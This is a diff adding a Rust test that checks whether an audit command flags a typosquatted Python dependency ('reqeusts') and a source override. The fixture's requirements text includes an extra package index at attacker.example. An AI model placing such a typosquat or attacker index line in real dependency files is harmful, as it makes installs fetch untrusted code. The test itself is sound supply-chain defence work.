@@ -477,3 +477,21 @@ fn verify_json_lists_environment_checks() {
     assert_eq!(v["environments"][0]["skill"], "dates");
     assert_eq!(v["environments"][0]["status"], "ok");
 }
+
+#[test]
+fn the_audit_finds_a_typosquatted_dependency_and_a_source_override() {
+    let p = Project::new(None);
+    let dir = p.skill(
+        "squat",
+        "reqeusts==2.31.0\n--extra-index-url https://attacker.example/simple\n",
+    );
+    let out = p.run(&["audit", dir.to_str().unwrap()]);
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(text.contains("deps.shadows-well-known"), "{text}");
+    assert!(text.contains("requests"), "{text}");
+    assert!(text.contains("deps.source-override"), "{text}");
+}
